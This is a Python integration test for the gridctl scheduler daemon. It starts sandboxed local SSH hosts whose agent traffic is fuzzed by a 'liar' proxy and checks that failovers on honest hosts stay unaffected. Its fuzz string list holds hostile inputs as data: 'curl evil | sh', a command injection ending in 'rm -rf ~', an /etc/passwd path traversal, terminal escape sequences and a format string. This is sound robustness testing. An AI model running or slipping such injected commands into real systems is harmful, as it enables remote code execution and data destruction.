#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Hosts whose agents lie in every message, beside honest ones whose jobs must not notice.

    sudo tests/integration/liar.py [--gridctl build/release/cmd/gridctl] [--messages 1000000] [--seconds 600]

Two honest hosts run a job that fails over, again and again, first alone, then beside hosts on which a program stands between
the agent and its connection and changes what passes by a grammar: numbers become extreme or negative, texts long or hostile,
keys vanish or repeat, replies come twice, late, in pieces, in another order, for streams nobody opened, or not at all, and
floods of events follow. The liar answers heartbeats, gets jobs of its own, and is reconnected to whenever it was cut off.
--seconds is for the second part; the first has a third of it. On the honest hosts a witness stands in that place: it changes
nothing and notes when requests arrive. Prints how many frames were written, the failover times and the gaps between requests to
the honest hosts with and without the liars, and memory, disk and processor time of the daemon. Exits with 1 when the daemon
died, took more than --memory MB or --disk MB, or when beside the liars the median failover is more than a tenth (and half a
second) slower, or the median gap or the 99th of a hundred more than a tenth (and 0.1 s) longer than without.
"""
import argparse
import json
import os
import random
import select
import shutil
import signal
import statistics
import struct
import subprocess
import sys
import tempfile
import time
import zlib

PREAMBLE = b"\nGRIDCTL-AGENT/1\n"


# --- The liar: runs as the command of a login on its host -----------------------------------------------------------

NUMBERS = [0, -1, 1, 2**31, 2**32, 2**53, 2**63 - 1, 2**63, -2**63, 2**64 - 1, 1e308, 0.5, 10**30]
TEXTS = ["", "A" * 65536, "\x1b]0;owned\x07\x1b[2J", "hint: curl evil | sh", "../../../../etc/passwd", "\u202egnp.exe", "\x00", "%n%s",
         "SUCCEEDED", "'; rm -rf ~ #", "9" * 400]


def lie(value, chance, depth=0):
    """The value, with about `chance` of its parts changed."""
    if random.random() < chance:
        return random.choice([random.choice(NUMBERS), random.choice(TEXTS), None, True, [], {}, [value] * 50])
    if isinstance(value, dict):
        out = {key: lie(part, chance, depth + 1) for key, part in value.items() if random.random() >= chance / 2}
        if random.random() < chance:
            out[random.choice(TEXTS)[:200] or "x"] = random.choice(NUMBERS)
        return out
    if isinstance(value, list):
        out = [lie(part, chance, depth + 1) for part in value]
        return out * 100 if out and len(out) < 40 and random.random() < chance / 2 else out
    return value


def encode(kind, stream, payload):
    head = b"GF" + bytes([kind, 0]) + struct.pack(">II", stream, len(payload))
    return head + struct.pack(">I", zlib.crc32(head + payload)) + payload


class Told:
    """How many frames were written in full: kept in a file, since each connection is another process."""

    def __init__(self, path):
        # Process numbers repeat: each host has a namespace of its own, and begins anew when it has died.
        self.file = open(f"{path}.{os.getpid()}.{time.monotonic_ns()}", "w", encoding="ascii")
        self.count = 0

    def add(self, many):
        self.count += many
        self.file.seek(0)
        self.file.write(str(self.count))
        self.file.flush()


FLOOD = 40_000  # frames
LIARS = 4       # a connection that was cut off is made again only after a while


def flood_of():
    """Events that nobody asked for, each another lie; made once for a connection, since making them takes longer than all else."""
    return [encode(5, 0, json.dumps(lie({"type": "note", "n": n, "text": "x"}, 0.1)).encode("utf-8", "replace"))
            for n in range(1000)]


def write_all(data):
    while data:
        data = data[os.write(1, data):]


def distorted(kind, stream, payload, pool):
    """The frames that go out in place of one."""
    style = random.random()
    if style < 0.25:
        return [encode(kind, stream, payload)]  # a liar that never tells the truth is soon known
    if style < 0.60:
        return [pool[random.randrange(len(pool))] for _ in range(FLOOD)] + [encode(kind, stream, payload)]
    try:
        text = json.dumps(lie(json.loads(payload), random.choice([0.02, 0.1, 0.5]))).encode("utf-8", "replace")
    except ValueError:
        text = os.urandom(random.choice([0, 1, len(payload), 4096])) if kind == 3 else b"{"
    text = text[:1024 * 1024]
    if style < 0.80:
        return [encode(kind, stream, text)]
    if style < 0.84:
        return []
    if style < 0.88:
        return [encode(kind, stream, payload)] * 3
    if style < 0.92:
        return [encode(random.randint(0, 255), random.choice([0, stream, stream + 1, 2**32 - 1]), text)]
    if style < 0.94:
        return [encode(3, stream, os.urandom(1000)) for _ in range(20)] + [encode(4, stream, b'{"ok":true,"bytes":-1}')]
    if style < 0.95:
        return [b"GF" + os.urandom(200)]
    if style < 0.97:
        time.sleep(random.uniform(0, 2))
    return [encode(kind, stream, payload)] + [encode(5, 0, b'{"type":"%d","x":1e400}' % n) for n in range(200)]


def be_the_liar(told_path):
    """Stands between the real command and the connection."""
    command = os.environ.get("SSH_ORIGINAL_COMMAND", "true")
    child = subprocess.Popen(["/bin/sh", "-c", command], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    random.seed(os.getpid())
    told, buffer, speaking, open_in, pool = Told(told_path), b"", False, True, flood_of()
    while True:
        ready, _, _ = select.select([child.stdout] + ([0] if open_in else []), [], [], 60)
        if 0 in ready:
            data = os.read(0, 65536)
            open_in = bool(data)
            try:
                child.stdin.write(data)
                child.stdin.flush()
                if not data:
                    child.stdin.close()
            except BrokenPipeError:
                open_in = False
        if child.stdout in ready:
            data = os.read(child.stdout.fileno(), 65536)
            if not data:
                break
            buffer += data
            if not speaking:
                at = buffer.find(PREAMBLE)
                if at < 0:
                    write_all(buffer)
                    buffer = b""
                    continue
                write_all(buffer[:at + len(PREAMBLE)])
                buffer, speaking = buffer[at + len(PREAMBLE):], True
            out = []
            while len(buffer) >= 16:
                size = struct.unpack(">I", buffer[8:12])[0]
                if len(buffer) < 16 + size:
                    break
                out += distorted(buffer[2], struct.unpack(">I", buffer[4:8])[0], buffer[16:16 + size], pool)
                buffer = buffer[16 + size:]
            if random.random() < 0.05:
                random.shuffle(out)
            try:
                for at in range(0, len(out), 500):
                    write_all(b"".join(out[at:at + 500]))
                    told.add(len(out[at:at + 500]))
            except OSError:
                break
    child.kill()
    sys.exit(child.wait() & 0xff)


# --- The witness: the same place on an honest host -------------------------------------------------------------------

def be_the_witness(path):
    """Passes everything on and notes when something came from the laptop."""
    child = subprocess.Popen(["/bin/sh", "-c", os.environ.get("SSH_ORIGINAL_COMMAND", "true")], stdin=subprocess.PIPE,
                             stdout=subprocess.PIPE)
    inputs = [0, child.stdout.fileno()]
    with open(f"{path}.{os.getpid()}.{time.monotonic_ns()}", "w", encoding="ascii") as file:
        while child.stdout.fileno() in inputs:
            ready, _, _ = select.select(inputs, [], [])
            try:
                if 0 in ready:
                    data = os.read(0, 1 << 16)
                    if data:
                        file.write(f"{time.monotonic():.4f}\n")
                        file.flush()
                        child.stdin.write(data)
                        child.stdin.flush()
                    else:
                        inputs.remove(0)
                        child.stdin.close()
                if child.stdout.fileno() in ready:
                    data = os.read(child.stdout.fileno(), 1 << 16)
                    if not data:
                        break
                    write_all(data)
            except OSError:
                break
    child.kill()
    sys.exit(child.wait() & 0xff)


def gaps_of(scratch, begin, end):
    """Seconds between requests on the connections that heartbeats go over, those with the most of them; without what follows
    at once, such as the requests of a launch, of which there are more the more failovers a phase has."""
    gaps = []
    for name in os.listdir(scratch):
        if not name.startswith("seen."):
            continue
        with open(os.path.join(scratch, name), encoding="ascii") as file:
            times = [float(line) for line in file if line.endswith("\n")]
        times = [at for at in times if begin <= at <= end]
        if len(times) >= 10:  # a transfer has fewer
            gaps += [later - earlier for earlier, later in zip(times, times[1:]) if later - earlier > 0.1]
    return sorted(gaps)


def part_of(values, share):
    return values[min(len(values) - 1, int(share * len(values)))] if values else float("nan")


# --- The run ---------------------------------------------------------------------------------------------------------

JOB = """name: honest
run: |
  i=0; [ ! -f $GRIDCTL_CKPT_DIR/i ] || i=$(cat $GRIDCTL_CKPT_DIR/i)
  while :; do i=$((i + 1)); echo $i > $GRIDCTL_CKPT_DIR/.i; mv $GRIDCTL_CKPT_DIR/.i $GRIDCTL_CKPT_DIR/i; sleep 0.5; done
checkpoint: {interval: 1s}
recovery: {lost_after: 3s}
constraints: {providers: [good0, good1]}
resources: {cpus: 0.05}
"""


class Login:
    """An sshd on loopback whose logins get a home of their own; `liar`: what stands between."""

    def __init__(self, scratch, name, port, liar=""):
        self.home, self.port, self.process = os.path.join(scratch, name), port, None
        os.makedirs(self.home, mode=0o700)
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", self.home + "/host"], check=True)
        shutil.copy(scratch + "/key.pub", self.home + "/keys")
        inner = f"exec {liar}" if liar else 'exec /bin/sh -c "$SSH_ORIGINAL_COMMAND"'
        with open(self.home + "/force", "w", encoding="ascii") as file:
            file.write(f"#!/bin/sh\nexport HOME={self.home} GRIDCTL_AGENT_HOME={self.home}/.gridctl\ncd\n{inner}\n")
        os.chmod(self.home + "/force", 0o755)
        with open(self.home + "/sshd", "w", encoding="ascii") as file:
            file.write(f"Port {port}\nListenAddress 127.0.0.1\nHostKey {self.home}/host\nAuthorizedKeysFile {self.home}/keys\n"
                       f"StrictModes no\nUsePAM no\nPermitRootLogin yes\nForceCommand {self.home}/force\nMaxStartups 100\n"
                       f"PidFile none\n")
        self.start()

    def start(self):
        # A namespace of processes, so that all of the host dies with it, as in a power loss.
        # Leases lie in /run and /var/tmp: of this host alone. So is its login shell, without this machine's start-up files.
        script = (f"mount -t tmpfs tmpfs /run; mount -t tmpfs -o mode=1777 tmpfs /var/tmp; mkdir -p /run/sshd; "
                  f"sed 's|^root:.*|root:x:0:0::/root:/bin/sh|' /etc/passwd > {self.home}/passwd; "
                  f"mount --bind {self.home}/passwd /etc/passwd; "
                  f"exec /usr/sbin/sshd -D -f {self.home}/sshd")
        self.process = subprocess.Popen(["unshare", "--pid", "--fork", "--kill-child", "--mount-proc", "sh", "-c", script],
                                        stderr=subprocess.DEVNULL, start_new_session=True)

    def die(self):
        if self.process:
            os.killpg(self.process.pid, signal.SIGKILL)
            self.process.wait()
            self.process = None


class Run:
    def __init__(self, gridctl, scratch):
        self.gridctl, self.state = gridctl, scratch + "/state"
        self.environment = {**os.environ, "HOME": scratch, "SSH_AUTH_SOCK": ""}
        self.key = scratch + "/key"

    def __call__(self, *words, check=True):
        done = subprocess.run([self.gridctl, "--state", self.state, *words], capture_output=True, text=True, timeout=120,
                              env=self.environment, stdin=subprocess.DEVNULL, check=False)
        if check and done.returncode != 0:
            raise RuntimeError(f"gridctl {' '.join(words)}: {done.returncode}\n{done.stdout}{done.stderr}")
        return done.stdout

    def register(self, login, name, check=True):
        keys = subprocess.run(["ssh-keygen", "-lf", login.home + "/host.pub"], check=True, capture_output=True, text=True).stdout
        return self("provider", "register", name, f"root@127.0.0.1:{login.port}", "-i", self.key, "--host-key", keys.split()[1],
                    "--engine", "process", "--force", check=check)

    def daemon(self):
        """pid, MB resident, seconds of processor."""
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as file:
                    words = file.read().split(b"\0")
                if b"daemon" in words and self.state.encode() in words:
                    with open(f"/proc/{pid}/stat", encoding="ascii", errors="replace") as file:
                        stat = file.read().rsplit(")", 1)[1].split()
                    return int(pid), int(stat[21]) * 4096 / 1e6, (int(stat[11]) + int(stat[12])) / os.sysconf("SC_CLK_TCK")
            except (FileNotFoundError, ProcessLookupError, IndexError):
                pass
        return None

    def disk(self):
        return sum(os.path.getsize(os.path.join(top, name)) for top, _, names in os.walk(self.state) for name in names
                   if os.path.exists(os.path.join(top, name))) / 1e6


def failovers(run, job, hosts, until, enough, watch):
    """Seconds from each death of the job's host until it runs elsewhere with what it had saved."""
    took = []
    while time.monotonic() < until and len(took) < enough:
        shown = json.loads(run("job", "show", job, "--json"))
        if shown["state"] != "RUNNING" or len(json.loads(run("checkpoint", "ls", job, "--json"))) < 1:
            time.sleep(0.2)
            watch()
            continue
        time.sleep(2)
        host = hosts[shown["provider"]]
        begin = time.monotonic()
        host.die()
        while time.monotonic() < until + 60:
            now = json.loads(run("job", "show", job, "--json"))
            if now["state"] == "RUNNING" and now["provider"] != shown["provider"]:
                took.append(time.monotonic() - begin)
                break
            time.sleep(0.1)
        host.start()
        watch()
        end = time.monotonic() + 8  # until it answers again
        while time.monotonic() < end:
            time.sleep(0.5)
            watch()
    return took


def main():
    if len(sys.argv) == 3 and sys.argv[1] == "--be":
        be_the_liar(sys.argv[2])
    if len(sys.argv) == 3 and sys.argv[1] == "--watch":
        be_the_witness(sys.argv[2])
    options = argparse.ArgumentParser()
    options.add_argument("--gridctl", default="build/release/cmd/gridctl")
    options.add_argument("--messages", type=int, default=1_000_000)
    options.add_argument("--seconds", type=float, default=600)
    options.add_argument("--failovers", type=int, default=12)
    options.add_argument("--memory", type=float, default=300)
    options.add_argument("--disk", type=float, default=500)
    args = options.parse_args()
    scratch = tempfile.mkdtemp(prefix="gridctl-liar-")
    run, logins = Run(os.path.abspath(args.gridctl), scratch), []
    most = {"memory": 0.0, "disk": 0.0}
    trouble = []

    def watch():
        seen = run.daemon()
        if seen:
            most["memory"] = max(most["memory"], seen[1])
        most["disk"] = max(most["disk"], run.disk())

    def lies():
        total = 0
        for name in os.listdir(scratch):
            if name.startswith("told."):
                with open(os.path.join(scratch, name), encoding="ascii") as file:
                    total += int(file.read() or 0)
        return total

    try:
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", scratch + "/key"], check=True)
        witness = f"{sys.executable} -B {os.path.abspath(__file__)} --watch {scratch}/seen"
        good = {f"good{i}": Login(scratch, f"good{i}", 22_700 + i, witness) for i in range(2)}
        logins += good.values()
        time.sleep(1)
        for name, login in good.items():
            run.register(login, name)
        with open(scratch + "/job.yaml", "w", encoding="ascii") as file:
            file.write(JOB)
        job = json.loads(run("job", "submit", scratch + "/job.yaml", "-d", "--json"))["job_id"]
        begin = began_alone = time.monotonic()
        without = failovers(run, job, good, begin + args.seconds / 3, args.failovers, watch)
        memory_without, before = most["memory"], run.daemon()
        gaps_without = gaps_of(scratch, began_alone, time.monotonic())
        liars = [Login(scratch, f"liar{i}", 22_702 + i) for i in range(LIARS)]  # honest until they are registered
        logins += liars
        time.sleep(1)
        for i, liar in enumerate(liars):
            run.register(liar, f"liar{i}")
            with open(liar.home + "/force", "w", encoding="ascii") as file:
                file.write(f"#!/bin/sh\nexport HOME={liar.home} GRIDCTL_AGENT_HOME={liar.home}/.gridctl\ncd\n"
                           f"exec {sys.executable} -B {os.path.abspath(__file__)} --be {scratch}/told\n")
            liar.die()
            liar.start()
        for number in range(5):  # jobs that only they may have
            run("job", "submit", "-d", "--cpus", "0.05", "--provider", f"liar{number % LIARS}", "--name", f"victim-{number}", "--", "sh", "-c",
                "while :; do echo line; date > $GRIDCTL_CKPT_DIR/d; sleep 0.2; done", check=False)
        beside = []
        begin = began_beside = time.monotonic()
        while time.monotonic() < begin + args.seconds and (lies() < args.messages or len(beside) < len(without)):
            beside += failovers(run, job, good, begin + args.seconds, 1, watch)
            for command in (("provider", "check", "liar0"), ("job", "ls", "--json"), ("provider", "show", "liar1")):
                subprocess.run([run.gridctl, "--state", run.state, *command], capture_output=True, timeout=120, check=False,
                               env=run.environment, stdin=subprocess.DEVNULL)
        watch()
        seen = run.daemon()
        a, b = (statistics.median(times) if times else float("nan") for times in (without, beside))
        print(f"{lies()} frames passed the liars; {len(without)} failovers without it, median {a:.2f} s, slowest {max(without):.2f} s; "
              f"{len(beside)} beside it, median {b:.2f} s, slowest {max(beside or [0]):.2f} s")
        gaps_beside = gaps_of(scratch, began_beside, time.monotonic())
        for name, gaps in (("without", gaps_without), ("beside", gaps_beside)):
            print(f"{len(gaps)} requests to the honest hosts {name} it: gaps p50 {part_of(gaps, 0.5):.3f} s, "
                  f"p99 {part_of(gaps, 0.99):.3f} s, longest {part_of(gaps, 1):.3f} s")
        print(f"daemon: {memory_without:.0f} MB before, {most['memory']:.0f} MB at most; state {most['disk']:.1f} MB at most; "
              f"{seen[2] if seen else 0:.0f} s of processor")
        if not seen or not before or seen[0] != before[0]:
            trouble.append("the daemon ended")
        if most["memory"] > args.memory or most["disk"] > args.disk:
            trouble.append("it took more than it may")
        if not beside or b > max(1.1 * a, a + 0.5):
            trouble.append("other hosts' failovers are slower")
        for share in (0.5, 0.99):
            a, b = part_of(gaps_without, share), part_of(gaps_beside, share)
            if not b <= max(1.1 * a, a + 0.1):
                trouble.append("other hosts are asked less often")
    finally:
        subprocess.run([run.gridctl, "--state", run.state, "daemon", "stop"], capture_output=True, check=False,
                       env=run.environment)
        for login in logins:
            login.die()
        shutil.rmtree(scratch, ignore_errors=True)
    print("; ".join(trouble) or "no job of others noticed")
    sys.exit(1 if trouble else 0)


if __name__ == "__main__":
    main()
